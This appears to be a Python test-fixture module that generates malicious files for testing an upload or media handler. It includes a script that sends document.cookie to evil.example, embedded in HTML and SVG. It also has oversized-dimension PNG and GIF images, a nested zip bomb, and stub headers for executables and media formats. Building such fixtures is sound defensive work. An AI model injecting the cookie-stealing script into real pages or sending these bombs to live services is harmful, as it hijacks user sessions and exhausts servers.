"""Files that mean harm, made here and stored nowhere."""

import io
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **more: object) -> bytes:
    """A harmless picture."""
    out = io.BytesIO()
    mode = {"GIF": "P", "PNG": "RGBA"}.get(kind, "RGB")
    Image.new(mode, size, 3 if mode == "P" else "orange").save(out, kind, **more)
    return out.getvalue()


def png(width: int, height: int, rows: int | None = None) -> bytes:
    """A PNG that claims width and height and holds so many rows of nothing."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    pack = zlib.compressobj(9)
    row = bytes(width * 3 + 1)
    packed = b"".join(pack.compress(row) for _ in range(height if rows is None else rows)) + pack.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def gif(width: int, height: int) -> bytes:
    """A GIF whose screen and frame claim width and height."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    return head + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00;"


def zip_bomb(levels: int = 3) -> bytes:
    """Zeros, packed again and again."""
    content = bytes(10_000_000)
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            for copy in range(4):
                packed.writestr(f"{level}-{copy}", content)
        content = out.getvalue()
    return content


def mp4(brand: bytes = b"isom") -> bytes:
    """The beginning of a film."""
    return b"\0\0\0\x18ftyp" + brand + b"\0\0\2\0isomiso2" + b"\0\0\0\x08free" + bytes(64)


OGG = b"OggS\0\2" + bytes(20) + b"\x01\x13OpusHead\1\1" + bytes(20)
MP3 = b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\x44" + bytes(413)
AMR = b"#!AMR\n" + b"\x3c" + bytes(31)
ELF = b"\x7fELF\2\1\1" + bytes(57)
EXE = b"MZ\x90\0" + bytes(200)
